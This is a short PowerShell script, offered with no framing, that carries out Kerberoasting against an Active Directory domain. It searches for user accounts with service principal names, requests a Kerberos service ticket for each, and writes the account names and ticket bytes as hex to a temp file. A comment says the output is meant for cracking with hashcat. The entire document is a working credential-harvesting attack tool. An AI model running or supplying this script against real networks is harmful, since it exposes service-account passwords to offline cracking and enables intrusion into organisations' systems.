# request TGS tickets for every user SPN and dump them in hashcat-friendly hex
Add-Type -AssemblyName System.IdentityModel
$searcher = [adsisearcher]'(&(samAccountType=805306368)(servicePrincipalName=*))'
$searcher.PageSize = 500
$results = $searcher.FindAll()
foreach ($r in $results) {
    $spn = $r.Properties['serviceprincipalname'][0]
    $ticket = New-Object System.IdentityModel.Tokens.KerberosRequestorSecurityToken -ArgumentList $spn
    $bytes = $ticket.GetRequest()
    $hex = [BitConverter]::ToString($bytes) -replace '-'
    "{0}`t{1}" -f $r.Properties['samaccountname'][0], $hex | Out-File -FilePath "$env:TEMP\spn.txt" -Append
}
